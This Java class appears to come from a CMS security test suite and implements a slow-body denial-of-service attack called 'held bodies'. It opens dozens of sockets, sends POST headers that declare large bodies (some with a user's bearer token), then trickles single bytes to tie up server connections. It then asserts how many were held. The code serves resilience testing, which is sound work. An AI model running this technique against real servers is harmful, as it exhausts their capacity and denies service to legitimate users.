package cms.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/** S5: bodies of nobody that trickle, and bodies of one person, as large as they may be, of which the last byte is missing. */
final class HeldBodies implements Attack {
    private static final Duration LASTS = Duration.ofSeconds(5);
    private static final Duration BETWEEN = Duration.ofMillis(500);
    private static final int OF_NOBODY = 40;
    private static final int OF_ONE = 40;
    private static final int SMALL_BYTES = 16 * 1024;
    private static final int LARGE_BYTES = 8 * 1024 * 1024;

    @Override
    public String name() {
        return "held bodies";
    }

    @Override
    public void run(Target target) throws Exception {
        URI url = target.service().url();
        String content = target.project().p() + "/content/authors";
        AtomicInteger held = new AtomicInteger();
        List<Socket> sockets = new ArrayList<>();
        try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
            for (int i = 0; i < OF_NOBODY + OF_ONE; i++) {
                Socket socket = new Socket(url.getHost(), url.getPort());
                sockets.add(socket);
                boolean ofNobody = i < OF_NOBODY;
                threads.submit(() -> ofNobody
                        ? hold(socket, held, head(url, "/api/auth/refresh", "", SMALL_BYTES), 0)
                        : hold(
                                socket,
                                held,
                                head(
                                        url,
                                        content,
                                        "Authorization: Bearer " + target.eve().token() + "\r\n",
                                        LARGE_BYTES),
                                LARGE_BYTES - SMALL_BYTES));
            }
            TimeUnit.MILLISECONDS.sleep(LASTS.toMillis());
            for (Socket socket : sockets) {
                socket.close();
            }
        }
        assertThat(held.get()).as("bodies that were waited for").isGreaterThan(OF_NOBODY / 2);
    }

    private static String head(URI url, String path, String who, int bytes) {
        return "POST " + path + " HTTP/1.1\r\nHost: " + url.getAuthority() + "\r\n" + who
                + "Content-Type: application/json\r\nContent-Length: " + bytes + "\r\n\r\n";
    }

    /** Sends so much at once, then a byte now and then, until one of both ends the connection. */
    private static boolean hold(Socket socket, AtomicInteger held, String head, int atOnce) throws Exception {
        try {
            OutputStream out = socket.getOutputStream();
            out.write(head.getBytes(StandardCharsets.US_ASCII));
            out.write(" ".repeat(atOnce).getBytes(StandardCharsets.US_ASCII));
            out.write(' ');
            held.incrementAndGet();
            while (true) {
                TimeUnit.MILLISECONDS.sleep(BETWEEN.toMillis());
                out.write(' ');
            }
        } catch (IOException ended) {
            return false;
        }
    }
}
